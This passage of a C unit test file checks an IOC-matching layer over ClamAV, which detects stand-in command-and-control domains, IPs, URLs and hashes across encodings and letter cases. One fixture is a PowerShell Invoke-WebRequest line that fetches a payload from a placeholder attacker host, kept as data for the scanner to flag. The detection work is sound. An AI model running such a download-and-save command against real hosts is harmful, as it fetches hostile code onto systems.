	for (long i = 0; i < units; i++, n += 2)
		set16(out + n, u[i]);
	out[n++] = 0;
	out[n++] = 0;
	for (int i = 0; i < 48; i++)
		out[n++] = (uint8_t)(i * 13 + 5);
	free(u);
	return n;
}

static void domain_in_ascii_and_utf16(void **state)
{
	uint8_t b[512];
	const struct ioc_entry *e;

	e = one_ioc(b, binary_with("connect to evil-c2.example.net now", b, sizeof(b)));
	assert_string_equal(e->kind, "domain");
	assert_string_equal(e->feed, string_feed);
	assert_int_equal(e->line, 2);
	assert_string_equal(e->name, "C2");
	e = one_ioc(b, binary_with_wide("https://evil-c2.example.net/x", b, sizeof(b)));
	assert_int_equal(e->line, 2);
	e = one_ioc(b, binary_with_wide("Global\\KenshuUnitMutex", b, sizeof(b)));
	assert_string_equal(e->kind, "string");
	assert_int_equal(e->line, 5);
}

static void domain_in_another_case(void **state)
{
	uint8_t b[512];
	static const char text[] = "# hosts\r\n10.0.0.1 Evil-C2.Example.NET\r\n";
	const struct ioc_entry *e;

	/* Upper case anywhere; any case in text, which ClamAV lower-cases. */
	e = one_ioc(b, binary_with("EVIL-C2.EXAMPLE.NET", b, sizeof(b)));
	assert_int_equal(e->line, 2);
	e = one_ioc(b, binary_with_wide("EVIL-C2.EXAMPLE.NET", b, sizeof(b)));
	assert_int_equal(e->line, 2);
	e = one_ioc(text, strlen(text));
	assert_int_equal(e->line, 2);
	/* The documented limit: mixed case inside a binary is not matched. */
	assert_int_equal(no_match(b, binary_with("Evil-C2.Example.NET", b, sizeof(b))), 0);
	/* The URL's path keeps its case in binaries, and is found in text. */
	e = one_ioc(b, binary_with("GET http://bad.example.org/payload.bin", b, sizeof(b)));
	assert_string_equal(e->kind, "url");
	assert_int_equal(e->line, 4);
	static const char script[] = "Invoke-WebRequest HTTP://BAD.EXAMPLE.ORG/Payload.bin -OutFile x\n";
	e = one_ioc(script, strlen(script));
	assert_int_equal(e->line, 4);
}

static void addresses_and_domains_stand_alone(void **state)
{
	uint8_t b[512];
	static const char *const near_misses[] = {
		"110.20.30.40", "10.20.30.401", "10.20.30.4", "notevil-c2.example.net",
		"evil-c2.example.network", "http://bad.example.org/payload.bin2", "x10.20.30.40",
	};
	static const char *const hits[] = {
		"10.20.30.40", "10.20.30.40:443", "sub.evil-c2.example.net", "evil-c2.example.net/path",
		"\"10.20.30.40\"", "http://bad.example.org/payload.bin?id=1",
	};

	for (size_t i = 0; i < sizeof(near_misses) / sizeof(near_misses[0]); i++) {
		assert_int_equal(no_match(b, binary_with(near_misses[i], b, sizeof(b))), 0);
		assert_int_equal(no_match(b, binary_with_wide(near_misses[i], b, sizeof(b))), 0);
	}
	for (size_t i = 0; i < sizeof(hits) / sizeof(hits[0]); i++) {
		one_ioc(b, binary_with(hits[i], b, sizeof(b)));
		one_ioc(b, binary_with_wide(hits[i], b, sizeof(b)));
	}
	/* The address alone, as a whole file. */
	assert_string_equal(one_ioc("10.20.30.40", 11)->kind, "ip");
}

static void listed_hashes_match(void **state)
{
	const struct ioc_entry *e;

	e = one_ioc(sha256_data, strlen(sha256_data));
	assert_string_equal(e->kind, "sha256");
	assert_string_equal(e->feed, hash_feed);
	assert_int_equal(e->line, 4);
	assert_string_equal(e->name, "sha256 sample");
	e = one_ioc(md5_data, strlen(md5_data));
	assert_string_equal(e->kind, "md5");
	assert_int_equal(e->line, 2);
	e = one_ioc(sha1_data, strlen(sha1_data));
	assert_string_equal(e->kind, "sha1");
	assert_int_equal(e->line, 3);
	/* One byte more: another hash. */
	char other[128];
	snprintf(other, sizeof(other), "%s ", sha256_data);
	assert_int_equal(no_match(other, strlen(other)), 0);
}

static void clean_data_matches_nothing(void **state)
{
	uint8_t b[512];
	static const char text[] = "An ordinary configuration file\r\nServer=update.vendor.example\r\n";

	assert_int_equal(no_match(b, binary_with("nothing to see here", b, sizeof(b))), 0);
	assert_int_equal(no_match(text, strlen(text)), 0);
}

/* All-match: an IOC never hides malware in the same data, nor malware an IOC. */
static void ioc_and_malware_both_reported(void **state)
{
	uint8_t b[512];
	struct av_result res;
	char text[512];
	bool malware = false, ioc = false;

	snprintf(text, sizeof(text), "%s then evil-c2.example.net", malware_marker);
	scan(b, binary_with(text, b, sizeof(b)), &res);
	assert_int_equal(res.n, 2);
	for (size_t i = 0; i < res.n; i++) {
		assert_int_equal(res.m[i].kind, AV_DETECTION);
		malware |= strcmp(res.m[i].name, "Kenshu.Unit.Malware.UNOFFICIAL") == 0;
		ioc |= ioc_lookup(feeds, res.m[i].name) != NULL;
	}
	assert_true(malware && ioc);
	av_result_release(&res);
}

/* The longest indicators still fit ClamAV's database lines and match. */
static void longest_indicators_load_and_match(void **state)
{
	char url[1100], text[1200], *path;
	struct ioc *big;
	struct av *e;
	struct av_limits l;
	struct av_result res;
	uint8_t b[4096];

	memcpy(url, "http://long.example.com/", 24);
	memset(url + 24, 'p', 1000);
	url[1024] = '\0';
	/* And a 1024-byte UTF-8 string (341 three-byte characters and 1 byte). */
	char u8[1100];
	for (int i = 0; i < 341; i++)
		memcpy(u8 + 3 * i, "\xE8\xA8\xAD", 3);
	u8[1023] = 'x';
	u8[1024] = '\0';
	snprintf(text, sizeof(text), "%s\n", url);
	path = write_text("long-url.txt", text);
	char *path2 = write_text("long-u8.txt", u8);
	const char *s[2] = { path, path2 };
	assert_int_equal(ioc_load(NULL, 0, s, 2, &big, &err), 0);
	assert_int_equal(strlen(ioc_entry(big, 0)->indicator), 1024);
	assert_int_equal(strlen(ioc_entry(big, 1)->indicator), 1024);
	av_default_limits(&l);
	assert_int_equal(av_open(dbdir, big, &l, &e, &kerr), 0);
	for (int k = 0; k < 2; k++) {
		size_t n = k ? binary_with_wide(u8, b, sizeof(b)) : binary_with(url, b, sizeof(b));
		assert_int_equal(av_scan_memory(e, b, n, "unit", &res), 0);
		assert_int_equal(res.n, 1);
		assert_ptr_equal(ioc_lookup(big, res.m[0].name), ioc_entry(big, (size_t)k));
		av_result_release(&res);
	}
	av_close(e);
	ioc_free(big);
	free(path);
	free(path2);
}

static void feeds_in_the_evidence(void **state)
{
	size_t n = av_db_count(av);
	const struct av_db *d;

	assert_int_equal(n, 3);   /* unit.ndb, then the two feeds in order */
	d = av_db(av, 0);
	assert_string_equal(d->name, "unit.ndb");
	assert_false(d->ioc_feed);
	d = av_db(av, 1);
	assert_string_equal(d->name, hash_feed);
	assert_true(d->ioc_feed);
	assert_false(d->official);
	assert_int_equal(d->sigs, 3);
	assert_string_equal(d->sha256, ioc_feed(feeds, 0)->sha256);
	d = av_db(av, 2);
	assert_string_equal(d->name, string_feed);
	assert_int_equal(d->sigs, 4);
	/* 1 + 3 hashes + the strings' case forms and encodings. */
	assert_true(av_signature_count(av) > 4 + 8);
}

/* 100,000 domains and 100,000 hashes in one engine: load time, and one
 * of the last still matches. */
static void hundred_thousand_in_the_engine(void **state)
{
	size_t cap = 16 << 20, nh = 0, ns = 0;
	char *hashes = malloc(cap), *strings = malloc(cap);
	uint64_t seed = 99;
	struct ioc *big;
	struct av *e;
	struct av_limits l;
	struct av_result res;
	uint8_t b[512];

	for (int i = 0; i < 100000; i++) {
		uint64_t a = xorshift64(&seed), c = xorshift64(&seed), d = xorshift64(&seed), f = xorshift64(&seed);
		nh += (size_t)snprintf(hashes + nh, cap - nh, "%016llx%016llx%016llx%016llx\n",
				       (unsigned long long)a, (unsigned long long)c, (unsigned long long)d,
				       (unsigned long long)f);
		ns += (size_t)snprintf(strings + ns, cap - ns, "c2-%06d.example-bad.net\n", i);
	}
	char *hp = write_file("e100k-h.txt", hashes, nh), *sp = write_file("e100k-s.txt", strings, ns);
	const char *h[1] = { hp }, *s[1] = { sp };
	assert_int_equal(ioc_load(h, 1, s, 1, &big, &err), 0);
	av_default_limits(&l);
	double t0 = now();
	assert_int_equal(av_open(dbdir, big, &l, &e, &kerr), 0);
	print_message("av_open with 200,000 IOCs: %.2f s, %u ClamAV signatures\n", now() - t0,
		      av_signature_count(e));
	size_t n = binary_with("c2-099999.example-bad.net", b, sizeof(b));
	assert_int_equal(av_scan_memory(e, b, n, "unit", &res), 0);
	assert_int_equal(res.n, 1);
	assert_int_equal(ioc_lookup(big, res.m[0].name)->line, 100000);
	av_result_release(&res);
	av_close(e);
	ioc_free(big);
	free(hp);
	free(sp);
	free(hashes);
	free(strings);
}

int main(void)
{
	const struct CMUnitTest parsing[] = {
		cmocka_unit_test(hash_feed_as_published),
		cmocka_unit_test(string_feed_as_published),
		cmocka_unit_test(defanged_forms_are_refanged),
		cmocka_unit_test(utf16le_feed_from_windows),
		cmocka_unit_test(malformed_hash_lines),
		cmocka_unit_test(malformed_string_lines),
		cmocka_unit_test(string_too_long_and_line_too_long),
		cmocka_unit_test(binary_garbage_and_nul_bytes),
		cmocka_unit_test(mutated_feeds_fail_cleanly),
		cmocka_unit_test(unreadable_feeds),
		cmocka_unit_test(empty_feeds_are_valid),
		cmocka_unit_test(duplicates_keep_the_first),
		cmocka_unit_test(lookup_maps_back_exactly),
		cmocka_unit_test(hundred_thousand_lines),
	};
	const struct CMUnitTest matching[] = {
		cmocka_unit_test(domain_in_ascii_and_utf16),
		cmocka_unit_test(domain_in_another_case),
		cmocka_unit_test(addresses_and_domains_stand_alone),
		cmocka_unit_test(listed_hashes_match),
		cmocka_unit_test(clean_data_matches_nothing),
		cmocka_unit_test(ioc_and_malware_both_reported),
		cmocka_unit_test(longest_indicators_load_and_match),
		cmocka_unit_test(feeds_in_the_evidence),
		cmocka_unit_test(hundred_thousand_in_the_engine),
	};
	int failed = cmocka_run_group_tests_name("ioc parsing", parsing, setup, teardown);

	/* A fresh directory for the engine group. */
	memcpy(tmpdir + strlen(tmpdir) - 6, "XXXXXX", 6);
	return failed | cmocka_run_group_tests_name("ioc matching", matching, engine_setup, engine_teardown);
}
